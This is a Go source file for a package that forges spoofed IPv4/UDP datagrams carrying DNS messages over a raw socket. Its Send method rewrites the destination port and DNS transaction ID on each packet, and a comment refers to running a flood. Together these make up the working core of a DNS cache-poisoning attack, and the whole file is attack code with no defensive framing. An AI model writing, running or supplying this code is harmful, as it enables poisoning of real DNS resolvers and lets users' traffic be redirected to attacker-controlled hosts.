package forge

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"syscall"
)

// Forger sends spoofed IPv4/UDP datagrams through an IPPROTO_RAW socket:
// any source address and port. Not safe for concurrent use.
type Forger struct {
	fd  int
	pkt []byte // IPv4 header, UDP header, DNS message
}

// Open opens the raw socket; it needs CAP_NET_RAW.
func Open() (*Forger, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("forge: raw socket (needs root or CAP_NET_RAW): %w", err)
	}
	return &Forger{fd: fd}, nil
}

// Close closes the socket.
func (f *Forger) Close() error { return syscall.Close(f.fd) }

// Build prepares the datagram from src to dst (its port is set by Send)
// carrying msg, a DNS message whose ID Send sets.
func (f *Forger) Build(src, dst netip.AddrPort, msg []byte) {
	p := make([]byte, 28+len(msg))
	p[0], p[8], p[9] = 0x45, 64, syscall.IPPROTO_UDP // IPv4, IHL 5; TTL; protocol
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	s4, d4 := src.Addr().As4(), dst.Addr().As4()
	copy(p[12:], s4[:])
	copy(p[16:], d4[:])
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(p[i:]))
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(p[10:], ^uint16(sum))
	binary.BigEndian.PutUint16(p[20:], src.Port())
	binary.BigEndian.PutUint16(p[24:], uint16(8+len(msg))) // UDP checksum 0: none (IPv4)
	copy(p[28:], msg)
	f.pkt = p
}

// Send sends the built datagram to dst:port with DNS ID id. ENOBUFS (the
// socket's queue is full: the flood outruns the kernel) is returned as
// is, for the caller to ignore.
func (f *Forger) Send(dst netip.Addr, port, id uint16) error {
	binary.BigEndian.PutUint16(f.pkt[22:], port)
	binary.BigEndian.PutUint16(f.pkt[28:], id)
	return syscall.Sendto(f.fd, f.pkt, 0, &syscall.SockaddrInet4{Addr: dst.As4()})
}
